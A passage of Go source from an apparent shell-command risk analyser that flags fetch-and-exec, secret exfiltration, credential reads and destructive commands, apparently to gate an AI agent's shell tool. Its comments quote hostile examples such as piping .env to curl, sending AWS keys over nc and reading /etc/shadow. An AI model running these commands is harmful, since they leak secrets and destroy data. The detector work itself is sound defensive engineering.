package shell

import (
	"path"
	"slices"
	"strings"

	"github.com/toolgate/toolgate"
	"github.com/toolgate/toolgate/internal/sensitive"

	"mvdan.cc/sh/v3/syntax"
)

// call walks a simple command.
func (w *walker) call(x *syntax.CallExpr, c scope, d *dirState) {
	if w.negatedSubshell(x, c, d) {
		return
	}
	var assigns []string
	for _, as := range x.Assigns {
		assigns = append(assigns, w.assign(as, c, d))
	}
	if len(x.Args) == 0 {
		for _, as := range x.Assigns {
			w.rememberAssign(as, c.src) // a prefix of a command sets its environment only
		}
		if len(assigns) > 0 {
			w.emit(Command{Text: strings.Join(assigns, " "), Via: c.via})
		}
		return
	}
	sc := c
	sc.stdin = stdin{}
	var fetch []bool
	for i, a := range x.Args {
		if w.scanWord(a, sc, d) {
			if fetch == nil {
				fetch = make([]bool, len(x.Args))
			}
			fetch[i] = true
		}
	}
	if w.over() {
		return
	}
	words := make([]word, 0, len(x.Args))
	budget := maxBraceWords
	opaque := false
	for i, a := range x.Args {
		n := len(words)
		var ok bool
		words, budget, ok = w.expandBraces(c.src, a, words, budget)
		if w.over() {
			return
		}
		opaque = opaque || !ok
		if fetch != nil && fetch[i] {
			for j := n; j < len(words); j++ {
				words[j].fetch = true
			}
		}
	}
	w.run(words, assigns, c, d, opaque)
}

// cmdName returns a command word's base name, "" when it names no static
// command.
func cmdName(wd word) string {
	if !wd.static || wd.glob || wd.text == "" {
		return ""
	}
	name := wd.text
	if strings.IndexByte(name, '/') >= 0 {
		if name = path.Base(name); name == "/" || name == "." || name == ".." {
			return ""
		}
	}
	// On Windows "reg.exe" and "git.exe" are reg and git, and "npx.cmd"
	// is npm's shim for npx: a Bash tool there runs them by either name.
	if n := len(name); n > 4 && (strings.EqualFold(name[n-4:], ".exe") || strings.EqualFold(name[n-4:], ".cmd") || strings.EqualFold(name[n-4:], ".bat")) {
		name = name[:n-4]
	}
	// On a file system that folds case (macOS's, Windows') "CURL" and
	// "Sh" run curl and sh; on one that does not they run nothing. A name
	// the tables do not know is read as its lower-case twin when the
	// tables know that ("Rscript" is known as written).
	if hasUpperASCII(name) && commandSpec(name) == nil && roleEntry(name) == nil {
		if l := strings.ToLower(name); commandSpec(l) != nil || roleEntry(l) != nil {
			name = l
		}
	}
	return name
}

// hasUpperASCII reports whether s holds an ASCII capital letter.
func hasUpperASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if 'A' <= s[i] && s[i] <= 'Z' {
			return true
		}
	}
	return false
}

// run analyses one command given as words: it sees through wrappers,
// recurses into nested scripts and emits the Commands.
func (w *walker) run(words []word, assigns []string, c scope, d *dirState, opaque bool) {
	privileged := false // a subject wrapper (sudo) names the context
	for range 64 {      // wrappers nest; bound the loop
		if !w.step(1) {
			return
		}
		if len(words) == 0 {
			if len(assigns) > 0 {
				w.emit(Command{Text: strings.Join(assigns, " "), Via: c.via})
			}
			return
		}
		words = w.rehash(words)
		name := cmdName(words[0])
		if name == "" || opaque {
			w.emit(w.makeCommand(words, assigns, c.via, true))
			if words[0].fetch {
				w.critical(RiskRemoteFetchExec, "the output of a remote download is run as a command", joinWords(words))
			}
			return
		}
		if spec := wrapperFor(name); spec != nil {
			inner, next, nd, done := w.wrapper(name, spec, words, assigns, c, d)
			if done {
				return
			}
			if nd != nil {
				d = nd
			}
			words, assigns = inner, next
			var ok bool
			if c, ok = w.nest(c); !ok {
				return
			}
			if !privileged {
				c = c.withVia(name)
			}
			privileged = privileged || spec.subject
			continue
		}
		if hasRole(name, roleShell) {
			w.shell(name, words, assigns, c, d)
			return
		}
		if l, at := findLauncher(name, words); l != nil {
			w.launch(name, l, at, words, assigns, c, d)
			return
		}
		w.readTaint(name, words, c.stdin)
		switch name {
		case "hash":
			w.hash(words, assigns, c)
			return
		case "mapfile", "readarray":
			w.mapfile(words, assigns, c, d)
			return
		case "eval":
			idx := w.emit(w.makeCommand(words, assigns, c.via, true))
			w.checkCodeFetch(idx, words, c, true)
			script, static := joinStatic(words[1:])
			w.script(script, static, c, d, "eval", false)
			return
		case "xargs", "parallel":
			w.xargs(name, words, assigns, c, d)
			return
		case "fc":
			// fc -s and fc -e re-run commands from the history: what runs
			// is not in the call.
			idx := w.emit(w.makeCommand(words, assigns, c.via, false))
			for _, a := range words[1:] {
				if strings.HasPrefix(a.text, "-") && strings.ContainsAny(a.text, "se") {
					w.res.Commands[idx].Opaque = true
				}
			}
			return
		case "alias":
			w.emit(w.makeCommand(words, assigns, c.via, false))
			for _, a := range words[1:] {
				if i := strings.IndexByte(a.text, '='); i > 0 {
					w.script(a.text[i+1:], a.static, c, d.clone(), "alias", false)
				}
			}
			return
		case "trap":
			idx := w.emit(w.makeCommand(words, assigns, c.via, false))
			args := words[1:]
			if len(args) > 0 && args[0].text == "--" {
				args = args[1:]
			}
			if len(args) > 1 && !strings.HasPrefix(args[0].text, "-") {
				if !w.script(args[0].text, args[0].static, c, d.clone(), "trap", false) {
					w.res.Commands[idx].Opaque = true
				}
			}
			return
		}
		w.simple(name, words, assigns, c, d)
		return
	}
	w.emit(w.makeCommand(words, assigns, c.via, true))
}

func (c scope) withVia(v string) scope {
	c.via = v
	return c
}

// makeCommand builds a Command from its words.
func (w *walker) makeCommand(words []word, assigns []string, via string, opaque bool) Command {
	texts := make([]string, len(words))
	for i, wd := range words {
		texts[i] = wd.text
	}
	bare := strings.Join(texts, " ")
	cmd := Command{Text: bare, Opaque: opaque, Via: via}
	if len(words) > 0 {
		cmd.Name = cmdName(words[0])
		cmd.Args = texts[1:]
		for i, wd := range words[1:] {
			if wd.static && !wd.glob && strings.ContainsAny(wd.text, "*?[") {
				if cmd.Literal == nil {
					cmd.Literal = make([]bool, len(cmd.Args))
				}
				cmd.Literal[i] = true
			}
		}
		if cmd.Name == "" {
			cmd.Opaque = true
		}
	}
	if len(assigns) > 0 {
		cmd.Text = strings.Join(assigns, " ") + " " + bare
		cmd.Alts = append(cmd.Alts, bare)
	}
	if len(words) > 0 && cmd.Name != "" && cmd.Name != words[0].text {
		base := cmd.Name
		if len(cmd.Args) > 0 {
			base += " " + strings.Join(cmd.Args, " ")
		}
		cmd.Alts = append(cmd.Alts, base)
		if len(assigns) > 0 {
			cmd.Alts = append(cmd.Alts, strings.Join(assigns, " ")+" "+base)
		}
	}
	return cmd
}

// simple handles a command that is not a wrapper: its exec-capable flags,
// files, risks and the commands it runs itself (find -exec, …).
func (w *walker) simple(name string, words []word, assigns []string, c scope, d *dirState) {
	cmd := w.makeCommand(words, assigns, c.via, false)
	var roles role // looked up once: the checks below ask often
	var check riskCheck
	if e := roleEntry(name); e != nil {
		roles, check = e.roles, e.check
	}
	spec := commandSpec(name)
	// Abbreviated long options ("--forc", "--out=x") are read as the
	// command reads them, by every check below.
	norm := normaliseArgs(name, cmd.Args)
	args := words[1:]
	if len(norm) > 0 && &norm[0] != &cmd.Args[0] {
		args = make([]word, len(words)-1)
		copy(args, words[1:])
		for i := range args {
			args[i].text = norm[i]
		}
		cmd.Alts = append(cmd.Alts, name+" "+strings.Join(norm, " "))
	}
	if name == "git" {
		if alt, ok := gitWithoutGlobals(norm); ok {
			cmd.Alts = append(cmd.Alts, alt)
		}
	}
	var scripts []string
	cmd.ExecFlags, scripts = w.execFlags(name, norm)
	classifyWords(&cmd, name, roles, cmd.Args, dynamicWords(words[1:]))
	if alias, ok := gitAlias(name, cmd.Args); ok {
		// Push plumbing and git under another name: the rules and
		// classes written for the git command it is apply.
		classify(&cmd, "git", alias)
		cmd.Alts = append(cmd.Alts, "git "+strings.Join(alias, " "))
	}
	stdinClasses(&cmd, name, roles, c.stdin)
	environSecret(&cmd, name, c.stdin)
	if srv, dir, ok := w.servesSecretDir(name, roles, cmd.Args, d); ok && dir == "" {
		cmd.ServesCwd = srv
	} else if ok {
		addClass(&cmd, ClassRisk{Class: ClassExfiltrate, Reason: srv + " serves its working directory " + dir + " to the network", Token: srv})
	}
	w.inlineProgram(&cmd, name, roles, args, c.stdin, d)
	if alt, ok := decodedAlt(cmd.Text); ok {
		cmd.Alts = append(cmd.Alts, alt)
	}
	known := w.known(name, spec)
	if !known {
		if alt, ok := gateAlt(name, norm); ok {
			cmd.Alts = append(cmd.Alts, alt)
		}
	}
	if v, ok := nameDestroys(name); ok && !known && !strings.Contains(words[0].text, "/") {
		// A tool named for what it deletes (kafka-delete-records,
		// aws-nuke); a project's own script, run by its path, is not
		// judged by its name.
		addClass(&cmd, ClassRisk{Class: ClassDestructive, Reason: name + " is a tool that deletes (" + v + "), in a service or on this machine", Token: name})
	}
	serviceDeletes(&cmd, name, roles, known && !otherProgram(spec, norm), norm)
	w.climbingOperands(&cmd, name, roles, d)
	appInline(&cmd, name, roles, known, norm, c.stdin)
	secretSearch(&cmd, name, norm)
	cmd.Keys = keyWords(spec, args)
	idx := w.emit(cmd)
	fstart := len(w.res.Files)
	if spec != nil {
		w.filesOf(spec, name, args, cmd.Text, c, d)
	}
	w.installEnvDirs(name, norm, assigns, cmd.Text, d)
	if m, rest, ok := pythonModule(name, norm); ok && len(rest) <= len(args) {
		// python -m pip install --target DIR writes where pip
		// install --target DIR does.
		if ms := commandSpec(m); ms != nil && m != name {
			w.filesOf(ms, m, args[len(args)-len(rest):], cmd.Text, c, d)
			w.installEnvDirs(m, rest, assigns, cmd.Text, d)
		}
	}
	w.fileEffects(spec, norm, fstart)
	w.writeForms(idx, spec, norm, fstart)
	w.risks(name, check, args, cmd.Text, d)
	w.checkCodeFetch(idx, words, c, runsCode(name, roles))
	w.secretOperands(name, roles, spec.describes() || known, cmd.Keys, args, cmd.Text, d)
	if !known || scriptRunner(name, roles) {
		w.probe(idx, args, c, d)
	}
	for _, s := range scripts {
		from := len(w.res.Commands)
		if !w.script(s, !strings.ContainsAny(s, "$`"), c, d, name, true) {
			w.res.Commands[idx].Opaque = true
		} else if len(scripts) == 1 && len(cmd.ExecFlags) == 1 && remoteShell(name, cmd.ExecFlags[0]) && w.plainSSH(from) {
			// rsync -e 'ssh -p 2222': the transfer's remote shell is
			// ssh with options of its own, seen (an ssh option that
			// runs something keeps its own flag).
			w.dropFlag(idx, cmd.ExecFlags[0])
		}
	}
	if spec != nil && spec.runs != runsNothing {
		spec.runs.walk(w, idx, name, args, cmd.Text, c, d)
	}
	if at, ok := packageProgram(name, roles, norm); ok {
		w.runnerProgram(name, args[at:], c, d)
	} else if at, bin, ok := installedBin(name, args); ok {
		// "node node_modules/wrangler/bin/wrangler.js delete worker" is
		// wrangler's run, as npx wrangler's is.
		prog := append([]word{{text: bin, static: true}}, args[at+1:]...)
		w.runnerProgram(name, prog, c, d)
	}
	w.markReadOnly(idx, name, norm, args, assigns, fstart)
}

// remoteShell reports whether flag is the option naming the remote
// shell rsync runs: --rsh, -e, or a cluster -e ends (-avze ssh).
func remoteShell(name, flag string) bool {
	return name == "rsync" && (flag == "--rsh" || len(flag) > 1 && flag[0] == '-' && flag[1] != '-' && flag[len(flag)-1] == 'e')
}

// plainSSH reports whether the commands emitted from index from on are
// one ssh (or autossh) with options only: no host or command of its own
// beyond what the transfer appends, nothing opaque, no exec-capable
// option or risk.
func (w *walker) plainSSH(from int) bool {
	cs := w.res.Commands[from:]
	if len(cs) != 1 {
		return false
	}
	c := cs[0]
	if c.Name != "ssh" && c.Name != "autossh" || c.Opaque || len(c.ExecFlags) > 0 || len(c.Classes) > 0 || c.Remote {
		return false
	}
	return true
}

// stdinClasses classes what a command is given on its standard input,
// read as its roles say: SQL a database shell runs, a credential file a
// transfer sends or a reader reads, a secret a network command sends,
// statements in a file or pipe nobody approving the call sees.
func stdinClasses(cmd *Command, name string, roles role, in stdin) {
	if in.kind == stdinText && roles&roleSQLShell != 0 && sqlDestroys(in.script) {
		// "echo 'DROP TABLE t' | psql", "mysql <<< 'DROP DATABASE d'"
		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from its input that drops or empties data: " + clip(in.script, 60), Token: name})
	}
	if in.kind == stdinText && roles&roleSQLShell != 0 && (clientShell(in.script) || sqliteShell(in.script)) {
		// "psql <<< '\\! id'", "echo '.shell id' | sqlite3 x.db": what
		// -c or -e would run, given on the input.
		cmd.Effects |= EffectRuns
		addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: name + " runs a shell command from the SQL on its input: " + clip(in.script, 60), Token: name})
	}
	if in.kind == stdinText && cmd.Effects&EffectNetwork != 0 {
		// "sftp host <<< 'put ~/.ssh/id_rsa'": a file transfer's script.
		if f, ok := mentionsCredential(in.script); ok {
			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send the credential file " + f, Token: f})
		} else if f, ok := scriptSendsSecretFile(in.script); ok && roles&roleTransferShell != 0 {
			// "sftp host <<< 'put .env'"
			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send " + f + ", whose name says it holds secrets", Token: f})
		} else if secretRef(in.script) {
			// "nc host 80 <<< $AWS_SECRET_ACCESS_KEY"
			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends a secret from the environment given on its input: " + clip(strings.TrimSpace(in.script), 60), Token: name})
		}
	}
	if (name == "ed" || name == "ex") && (in.kind == stdinText && edShell(in.script) || in.kind == stdinFile || in.kind == stdinPipe && in.script == "") {
		// "ed -s f <<< '!sh'", "w !cmd", "r !cmd": ed's and ex's shell
		// escapes; a script from a file or an unseen pipe may hold them.
		cmd.Effects |= EffectRuns
		addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: name + " runs a shell command from the editing script on its input", Token: name})
	}
	if in.kind == stdinText && roles&(roleListReader|roleScriptReader) != 0 {
		// "echo /etc/shadow | cpio -o": the names of the files to read
		// come on the input; "sqlite3 <<EOF .import /etc/shadow x": a
		// tool's script on its input reads the file.
		if f, ok := mentionsCredential(in.script); ok {
			addClass(cmd, ClassRisk{Class: ClassCredential, Reason: name + " is told on its input to read the credential file " + f, Token: f})
		}
	}
	if in.secret != "" && uploadsInput(name, cmd.Args) && !uploadsLocally(name, cmd.Args) {
		// "cat .env | curl -d @- URL", "nc host 9 < .env"
		addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends " + in.secret + ", whose name says it holds secrets, to the network", Token: in.secret})
	}
	if in.kind == stdinPipe && !in.files && uploadsInput(name, cmd.Args) && !uploadsLocally(name, cmd.Args) {
		// "npm test 2>&1 | curl -d @- URL", "pg_dump prod | nc host 9000":
		// what leaves is whatever the command before it printed, which no
		// rule on a file can vouch for.
		addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends the output of the command piped into it, unseen here, to the network", Token: name})
	}
	if roles&roleDNSUpdater != 0 {
		// "echo 'update delete www.example.com A' | nsupdate": the
		// records go from the zone; updates from a file or pipe are not
		// seen.
		switch {
		case in.kind == stdinText && dnsDeletes(in.script):
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " deletes DNS records given on its input: " + clip(in.script, 60), Token: name})
		case in.kind == stdinFile || in.kind == stdinPipe || nsupdateFile(cmd.Args):
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " applies DNS updates from a file or pipe nobody reviewed here, which may delete records", Token: name})
		}
	}
	if roles&roleTransferShell != 0 {
		// "ftp host <<< '!sh'": a transfer client's "!cmd" runs a shell
		// command, and its "|cmd" file names pipe through one; commands
		// from a file or pipe are unseen and may hold either.
		switch {
		case in.kind == stdinText && transferShell(in.script):
			cmd.Effects |= EffectRuns
			addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: name + " runs a shell command given on its input: " + clip(in.script, 60), Token: name})
		case batchFile(cmd.Args):
			cmd.Effects |= EffectRuns
			addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: name + " is given commands (a batch file, or -c) that may run shell commands (!cmd)", Token: name})
		case in.kind == stdinFile || in.kind == stdinPipe:
			cmd.Effects |= EffectRuns
			addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: name + " reads its commands from a file or pipe nobody reviewed here, and they may run shell commands (!cmd)", Token: name})
		}
	}
	if (in.kind == stdinFile || in.kind == stdinPipe) && roles&roleSQLShell != 0 && !sqlInline(cmd.Args) {
		// "psql prod < drop.sql", "cat x.sql | mysql": the statements are
		// not in the call, so nobody approving it sees what they do.
		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " runs SQL from a file or pipe, statements nobody reviewed here", Token: name})
	}
}

// inlineProgram classes the program an interpreter is given inline
// (python -c, a heredoc into node) and records the paths it names as the
// files it may write.
func (w *walker) inlineProgram(cmd *Command, name string, roles role, args []word, in stdin, d *dirState) {
	if code, ok := inlineCode(name, roles, args, in); ok {
		addClass(cmd, ClassRisk{Class: ClassInlineCode, Reason: inlineReason(name, code), Token: name})
		for i, a := range args {
			if i < 63 && a.text == code && code != "" {
				cmd.Code |= 1 << i
			}
		}
		cmd.Paths = codePaths(code)
		if writes, deletes := codeWrites(code); writes || deletes {
			// The program may write any path it names: the policy judges
			// each as a possible write (.claude/settings.json asks).
			for _, p := range cmd.Paths {
				wd := word{text: p, static: !strings.ContainsAny(p, "$`"), glob: strings.ContainsAny(p, "*?["), tilde: strings.HasPrefix(p, "~")}
				w.fileAs(wd, File{Write: true, Delete: deletes, Named: true}, cmd.Text, d)
			}
		}
	}
}

// serviceDeletes classes the calls that delete data in a service: an
// unknown command's verb (verbDestroys), an app's management script's
// (manage.py flush), a task runner's database task (dbTaskDestroys), a
// jar's, a downloader's HTTP DELETE. known is whether the tables know the
// command (walker.known).
func serviceDeletes(cmd *Command, name string, roles role, known bool, norm []string) {
	if sqlStatement(name, norm) {
		// "DROP TABLE users;" sent as a command: no shell program, but a
		// terminal attached to a database client runs it as it reads it.
		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: "the command is an SQL statement that drops or empties data: " + clip(cmd.Text, 60), Token: name})
	}
	if !known {
		if v, ok := verbDestroys(norm); ok && !(roles&roleLocalManager != 0 && retireVerb(strings.ToLower(v))) {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
		} else if v, why, ok := dbTaskDestroys(name, norm); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " " + v + why, Token: v})
		}
	} else if script, rest, ok := runsAppScript(name, roles, norm); ok {
		// "python manage.py flush", "php artisan db:wipe": the app's
		// commands are an unknown command's.
		if v, ok := verbDestroys(rest); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: script + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
		} else if v, why, ok := dbTaskDestroys(path.Base(script), rest); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: script + " " + v + why, Token: v})
		}
	} else if roles&(rolePassesArgs|roleMigrator) == 0 {
		// A known command that runs no tasks: its words are data
		// ("cat db.rollback.sql").
	} else if v, why, ok := dbTaskDestroys(name, norm); ok {
		// "rake db:drop", "mix ecto.rollback", "npm run db:reset": a
		// task runner's task.
		addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " " + v + why, Token: v})
	}
	if m, rest, ok := pythonModule(name, norm); ok {
		// "python -m alembic downgrade -1"
		if v, why, ok := dbTaskDestroys(m, rest); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: m + " " + v + why, Token: v})
		}
	} else if jar, rest, ok := runsJar(name, norm); ok {
		// "java -jar jenkins-cli.jar delete-job x": the program's
		// arguments are an unknown command's.
		if v, ok := verbDestroys(rest); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: jar + " " + v + " deletes data in a service, which does not come back from the workspace", Token: v})
		}
	}
	if roles&roleFetcher != 0 {
		if u, ok := httpDeletes(name, norm); ok {
			reason, token := name+" sends an HTTP DELETE to "+clip(u, 60)+", deleting data in a service", "DELETE"
			if deleteEndpoint(u) {
				reason, token = name+" calls the delete endpoint "+clip(u, 60)+", deleting data in a service", u
			}
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: reason, Token: token})
		}
		if f, ok := graphQLDeletes(norm); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: name + " sends a GraphQL mutation, " + f + ", that deletes data in a service", Token: f})
		}
	}
	if name == "gh" && len(norm) > 1 && norm[0] == "api" && norm[1] == "graphql" {
		if f, ok := graphQLDeletes(norm[2:]); ok {
			addClass(cmd, ClassRisk{Class: ClassDestructive, Reason: "gh api graphql sends a mutation, " + f + ", that deletes data on GitHub", Token: f})
		}
	}
}

// sqlStatement reports whether a command is an SQL statement that drops
// or empties data rather than a program run with options ("truncate -s 0
// app.log" is coreutils').
func sqlStatement(name string, args []string) bool {
	switch strings.ToLower(name) {
	case "drop", "truncate", "delete", "update", "alter":
	default:
		return false
	}
	for _, a := range args {
		if len(a) > 1 && a[0] == '-' && (a[1] == '-' || a[1] >= 'a' && a[1] <= 'z' || a[1] >= 'A' && a[1] <= 'Z') {
			return false
		}
	}
	return sqlDestroys(name + " " + strings.Join(args, " "))
}

// graphQLDeletes returns the field of a GraphQL mutation in the words
// (a request body, -d '{"query":"mutation { projectDelete(…) }"}', or
// gh api graphql -f query=…) whose name says it deletes: delete, remove,
// destroy, purge, wipe, drop or truncate before or after the object's
// name (deleteRepository, projectDelete, volumeInstanceBackupDelete).
func graphQLDeletes(args []string) (string, bool) {
	for _, a := range args {
		i := strings.Index(strings.ToLower(a), "mutation")
		if i < 0 {
			continue
		}
		rest := a[i+len("mutation"):]
		// Every name followed by '(' or '{' in the mutation is a field
		// (or the operation's own name, which says the same).
		for j := 0; j < len(rest); {
			for j < len(rest) && !isIdentByte(rest[j]) {
				j++
			}
			k := j
			for k < len(rest) && isIdentByte(rest[k]) {
				k++
			}
			name := rest[j:k]
			j = k
			for k < len(rest) && (rest[k] == ' ' || rest[k] == '\t' || rest[k] == '\n') {
				k++
			}
			if name == "" || k >= len(rest) || rest[k] != '(' && rest[k] != '{' {
				continue
			}
			l := strings.ToLower(name)
			for _, v := range [...]string{"delete", "remove", "destroy", "purge", "wipe", "drop", "truncate"} {
				if strings.HasPrefix(l, v) || strings.HasSuffix(l, v) {
					return name, true
				}
			}
		}
	}
	return "", false
}

// isIdentByte reports whether c may be part of a GraphQL name.
func isIdentByte(c byte) bool {
	return c == '_' || 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9'
}

// findExec walks the commands find runs for each file it picks (-exec,
// -execdir, -ok, -okdir): runsFindExec.
func (w *walker) findExec(idx int, args []word, c scope, d *dirState) {
	ic, ok := w.nest(scope{src: c.src, depth: c.depth, nest: c.nest})
	if !ok {
		return
	}
	names, _ := findNames(wordTexts(args[:findAction(args)]))
	// A flag is dropped only when every one of its uses is seen through:
	// "-exec ls {} \; -exec cat {} \;" keeps -exec for the cat.
	var seen, unseen []string
	for i := 0; i < len(args); i++ {
		switch flag := args[i].text; flag {
		case "-exec", "-execdir", "-ok", "-okdir":
			j := i + 1
			for j < len(args) && args[j].text != ";" && args[j].text != "+" {
				j++
			}
			ic.via = "find " + flag
			inner := runtimeWords(args[i+1 : j])
			start := len(w.res.Commands)
			w.run(inner, nil, ic, d.clone(), false)
			switch {
			case len(inner) > 0 && (namePicked(names) || w.readsEvery(names, inner, d)) && (findNoFollow(wordTexts(args)) || !deletesFound(inner)) && w.seesThrough(inner[0], start):
				// The command and the files a name test gives it
				// are seen (DESIGN §3.1): the form is those
				// subjects. Every file below a directory (dot-files
				// too, unlike "*") keeps the flag.
				w.runtimeFiles(inner, start, ic.via, names, d)
				w.markProduced(start)
				seen = append(seen, flag)
			case len(inner) > 0 && inner[0].static && listsOnly(inner[0].text, wordTexts(inner[1:])) && wholeBraces(inner) && w.plainFrom(start):
				// "find . -size +10M -exec ls -lh {} +" lists what find
				// picks, names and metadata, never what the files hold:
				// as "find … | xargs ls -lh", whatever find picks.
				w.markProduced(start)
				seen = append(seen, flag)
			case len(inner) > 0 && deletesFound(inner) && findNoFollow(wordTexts(args)) && w.seesThrough(inner[0], start):
				// "find build -type f -exec rm {} +" deletes what
				// "find build -type f -delete" does: the same
				// subjects, the same decision.
				w.findTreeDeletes(args, findAction(args), ic.via, d)
				seen = append(seen, flag)
			default:
				unseen = append(unseen, flag)
			}
			i = j
		}
	}
	for _, f := range seen {
		if !slices.Contains(unseen, f) {
			w.dropFlag(idx, f)
		}
	}
}

// climbed returns the absolute path of a relative path that climbs out
// of the directory the shell is in ("..", "../.."), resolved against it
// ($PWD, then the cd's on the way), when that is known: the table judges
// the home directory and the directories that hold credentials by their
// absolute names, and a project two levels below the home reaches it as
// ../.. .
//
// The directory itself (".", "./") counts only when it is the home or
// the root: "grep -rn x ." run in the home searches all of it.
func (w *walker) climbed(p string, d *dirState) (string, bool) {
	if strings.Contains(p, "..") && !path.IsAbs(p) {
		p = path.Clean(p) // ./.., src/../.. climb too
	}
	here := p == "." || p == "./"
	if !here && p != ".." && !strings.HasPrefix(p, "../") {
		return "", false
	}
	base := ""
	if w.env != nil {
		if v, _, known := w.env("PWD"); known && path.IsAbs(v) {
			base = v
		}
	}
	if d != nil && d.dir != "" {
		dir := d.dir
		if e, ok := expandHome(dir, w.a.home); ok && strings.HasPrefix(dir, "~") {
			dir = e
		}
		switch {
		case path.IsAbs(dir):
			base = dir
		case base != "" && !strings.ContainsAny(dir, "$`*?["):
			base = path.Join(base, dir)
		default:
			base = ""
		}
	}
	if base == "" {
		return "", false
	}
	if here {
		base = path.Clean(base)
		return base, homeRoot(base) || base == "/"
	}
	return path.Join(base, p), true
}

// climbingOperands classes the operands that climb out of the working
// directory ("grep -rn x ../..", "tar czf o.tgz ..") as the table
// classes their absolute paths: a search or copy of the home directory,
// or of a directory that holds credentials, reached from below it.
func (w *walker) climbingOperands(cmd *Command, name string, roles role, d *dirState) {
	var args []string
	var abs []string
	for i, a := range cmd.Args {
		if p, ok := w.climbed(a, d); ok {
			if args == nil {
				args = slices.Clone(cmd.Args)
			}
			args[i] = p
			abs = append(abs, p)
		}
	}
	if args == nil {
		return
	}
	var scratch Command
	classifyWords(&scratch, name, roles, args, nil)
	for _, c := range scratch.Classes {
		if slices.Contains(abs, c.Token) {
			addClass(cmd, c)
		}
	}
}

// readsEvery reports whether the command find -exec or xargs runs
// only reads what it is given, and is given every file below a directory
// (names "DIR/**", no name test), each as a whole word: it reads that
// directory as a recursive reader does (runtimeFiles).
//
// A home directory, the root, a directory that holds credential files
// and a search for a secret's name ("-exec grep -l password {} +") are
// not: they read what grep -r there would be asked about, so the form
// keeps its flag.
func (w *walker) readsEvery(names string, inner []word, d *dirState) bool {
	dir, ok := strings.CutSuffix(names, "/**")
	if dir == "" {
		dir = "/"
	}
	if abs, climbs := w.climbed(dir, d); climbs {
		dir = abs // ../.. from a project two levels below the home
	}
	if !ok || !wholeBraces(inner) || homeRoot(dir) || wholeTree(dir) || holdsCredentials(dir) {
		return false
	}
	name := cmdName(inner[0])
	if !describes(name) {
		return false
	}
	s := commandSpec(name)
	if s.files != readAll || rewrites(s, inner[1:]) || !printsNoContents(name, wordTexts(inner[1:])) {
		return false
	}
	for _, p := range searchPatterns(name, wordTexts(inner[1:])) {
		if secretPattern(p) {
			return false
		}
	}
	return true
}

// printsNoContents reports whether a reader prints what it learns of
// its files without their contents: counts, types, digests, or the
// names of the files a search matched (grep -l, rg -c). "cat" and a grep
// that prints its matching lines do not: given every file below a
// directory, they print .env's secrets too.
func printsNoContents(name string, args []string) bool {
	switch name {
	case "wc", "file", "stat", "du", "cksum", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum":
		return true
	case "grep", "egrep", "fgrep", "rg":
	default:
		return false
	}
	for _, a := range args {
		switch {
		case a == "--":
			return false
		case a == "--files-with-matches" || a == "--files-without-match" || a == "--count" || a == "--quiet":
			return true
		case len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "lLcq"):
			// A cluster of flags (-il); a value attached to -e or -f
			// ("-eclass") is a pattern, not flags.
			if i := strings.IndexAny(a[1:], "efmABCg"); i < 0 || strings.IndexAny(a[1:], "lLcq") < i {
				return true
			}
		}
	}
	return false
}

// wholeBraces reports whether the command find -exec runs is given the
// found file only as the whole word {}: "ls {}/../x" names another file.
func wholeBraces(inner []word) bool {
	for _, wd := range inner[1:] {
		if strings.Contains(wd.text, "{") && wd.text != "{}" {
			return false
		}
	}
	return true
}

// deletesFound reports whether the command find -exec runs deletes the
// files it is given in place (rm, unlink, shred: not mv, which writes
// elsewhere) and is given them only as the whole word {}: "rm
// {}/../x" names a file outside what find picks.
func deletesFound(inner []word) bool {
	name := cmdName(inner[0])
	if !describes(name) {
		return false
	}
	s := commandSpec(name)
	return s.deletes && s.files == writeAll && wholeBraces(inner)
}

// fdExec walks the command fd runs for the files it finds (-x, -X): the
// runs of fd's table entry.
func (w *walker) fdExec(name string, args []word, c scope, d *dirState) {
	ic, ok := w.nest(scope{src: c.src, depth: c.depth, nest: c.nest})
	if !ok {
		return
	}
	for i, a := range args {
		switch a.text {
		case "-x", "--exec", "-X", "--exec-batch":
			end := len(args)
			for j := i + 1; j < len(args); j++ {
				if args[j].text == ";" {
					end = j
					break
				}
			}
			ic.via = name + " " + a.text
			inner := runtimeWords(args[i+1 : end])
			start := len(w.res.Commands)
			w.run(inner, nil, ic, d.clone(), false)
			if len(inner) > 0 {
				w.runtimeFiles(inner, start, ic.via, "", d)
			}
			return
		}
	}
}

// gitExec reads what git prints and runs from its own arguments: the
// files of its pathspecs (gitPathspecs) and the commands of git bisect
// run and git submodule foreach: runsGitExec.
func (w *walker) gitExec(args []word, owner string, c scope, d *dirState) {
	rest := wordTexts(args)
	w.gitPathspecs(rest, args, owner, d)
	ic, ok := w.nest(scope{src: c.src, depth: c.depth, nest: c.nest})
